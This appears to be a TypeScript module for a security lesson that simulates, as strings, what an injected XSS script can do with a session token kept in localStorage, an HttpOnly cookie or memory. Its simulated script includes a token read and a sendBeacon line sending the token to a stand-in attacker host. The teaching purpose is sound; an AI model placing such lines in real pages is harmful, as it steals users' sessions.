/**
 * A model of what an injected script (XSS) can do with a session token, by where the page keeps it. Pure
 * and simulated: the lesson never writes a token to real storage or sends it anywhere (PRODUCT.md).
 */

/** Where a browser app keeps its token. */
export type TokenHome = 'local-storage' | 'httponly-cookie' | 'memory';

/** One line of the injected script and what it gets back. */
export interface ScriptLine {
  readonly code: string;
  readonly result: string;
  /** The token itself reached the attacker's script on this line. */
  readonly exposesToken: boolean;
}

/** What the injected script achieved. */
export interface XssOutcome {
  readonly lines: readonly ScriptLine[];
  /** The token the script can send away (usable from anywhere until it expires), or `null`. */
  readonly stolenToken: string | null;
  /** One or two sentences: what the attacker has now. */
  readonly summary: string;
}

const OTHER_COOKIES = 'theme=dark; lang=en';

/** Runs the model's injected script against a page that keeps `token` in `home`. */
export function runInjectedScript(home: TokenHome, token: string): XssOutcome {
  const inStorage = home === 'local-storage';
  const read: ScriptLine = {
    code: "localStorage.getItem('access_token')",
    result: inStorage ? JSON.stringify(token) : 'null',
    exposesToken: inStorage,
  };
  const cookies: ScriptLine = {
    code: 'document.cookie',
    result: JSON.stringify(OTHER_COOKIES),
    exposesToken: false,
  };
  const request: ScriptLine = {
    code: "await fetch('/api/orders', { credentials: 'include' })",
    result: REQUEST_RESULT[home],
    exposesToken: false,
  };
  const exfiltrate: ScriptLine = {
    code: "navigator.sendBeacon('https://attacker.example/collect', stolen)",
    result: inStorage
      ? 'true — the token is on the attacker’s server'
      : 'nothing to send: no token was readable',
    exposesToken: inStorage,
  };
  return {
    lines: [read, cookies, request, exfiltrate],
    stolenToken: inStorage ? token : null,
    summary: SUMMARY[home],
  };
}

const REQUEST_RESULT: Readonly<Record<TokenHome, string>> = {
  'local-storage': '200 OK — the script adds the token it read as a Bearer header',
  'httponly-cookie': '200 OK — the browser attaches the HttpOnly cookie itself, so the request is alice’s',
  memory: '200 OK — the script calls the app’s own API client, which holds the token',
};

const SUMMARY: Readonly<Record<TokenHome, string>> = {
  'local-storage':
    'The attacker has the token itself. They replay it from their own machine, as alice, until it expires — long after she closes the tab.',
  'httponly-cookie':
    'The script never saw the token: HttpOnly keeps it out of JavaScript. It can still act as alice through her open page, but when she closes it, the attacker has nothing.',
  memory:
    'The token was not in storage, so a one-line read found nothing; the script can still act as alice through the app’s code while the page is open. A script that patches the app’s fetch could catch the token in flight, so keep tokens short-lived.',
};
